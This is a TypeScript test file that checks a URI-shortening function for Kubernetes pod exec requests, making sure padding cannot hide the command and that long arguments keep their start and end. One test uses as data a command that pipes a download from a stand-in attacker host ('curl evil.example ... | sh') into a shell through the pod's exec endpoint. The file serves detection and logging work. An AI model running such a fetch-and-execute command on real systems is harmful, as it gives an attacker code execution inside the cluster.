import * as fc from 'fast-check';
import { expect, test } from 'vitest';
import { indexedUri } from '../../../agent/document/long-uri.ts';
import { termUnitsMax } from '../../../agent/event/index.ts';

const exec = '/api/v1/namespaces/lab/pods/web/exec';

test.each([
  ['before it', (pad: string) => `${exec}?x=${pad}&command=id`],
  ['behind it', (pad: string) => `${exec}?command=id&x=${pad}`],
  ['around it', (pad: string) => `${exec}?x=${pad}&command=id&y=${pad}`],
  ['by many parameters', (pad: string) => `${exec}?${'a=b&'.repeat(pad.length / 4)}command=id`],
  ['by many arguments', (pad: string) => `${exec}?command=id&${'command=x&'.repeat(pad.length / 10)}`],
])('padding %s does not hide a command', (_where, make) => {
  expect(indexedUri(make('p'.repeat(40_000)))).toMatch(/exec\?(?:.*&)?command=id(?:&|\u2026|$)/u);
});

test('a long argument keeps how it begins and how it ends', () => {
  const argument = `curl+evil.example${'x'.repeat(20_000)}%7C+sh`;
  const text = indexedUri(`${exec}?command=sh&command=-c&command=${argument}&container=a`);
  expect(text).toContain('command=curl+evil.example');
  expect(text).toContain('%7C+sh&container=a');
});

test('whatever the URI, it fits', () => {
  const part = fc.string({
    unit: fc.constantFrom('a', '&', '?', '=', '/', '\ud83d', '\ude00'),
    maxLength: 50,
  });
  fc.assert(
    fc.property(part, part, fc.nat(20_000), (start, middle, repeats) => {
      const text = indexedUri(start + middle.repeat(repeats));
      expect(text.length).toBeLessThanOrEqual(termUnitsMax);
    }),
    { numRuns: 200 },
  );
});
